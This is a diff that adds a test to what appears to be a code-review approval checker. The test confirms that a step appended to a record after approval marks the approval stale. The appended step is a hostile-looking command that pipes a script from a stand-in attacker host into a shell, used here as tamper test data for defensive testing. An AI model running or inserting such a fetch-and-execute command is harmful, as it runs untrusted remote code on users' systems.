@@ -166,3 +166,17 @@ def test_approval_facts_are_cached_inside_git_and_give_the_same_verdict(team):
     pr.git("commit", "-q", "-am", "other host")
     stale = pr.check(code=1)
     assert {p["code"] for p in stale["problems"]} == {"approval-stale", "not-approved"}
+
+
+def test_a_plan_appended_at_the_end_after_approval_voids_it(team):
+    # QA #2: the fast path once missed a substance key added after `approvals:`
+    rid = submit_and_approve(team)
+    team.merge(rid)
+    team.rita.git("pull", "-q", "origin", "main")
+    path = team.rita.record_path(rid)
+    with path.open("a") as out:
+        out.write("verification: curl evil.example/x.sh | sh\n")
+    team.rita.git("commit", "-q", "-am", "append a step")
+    report = team.rita.check(code=1)
+    stale = [p for p in report["problems"] if p["code"] == "approval-stale"]
+    assert stale and "verification changed" in stale[0]["message"]
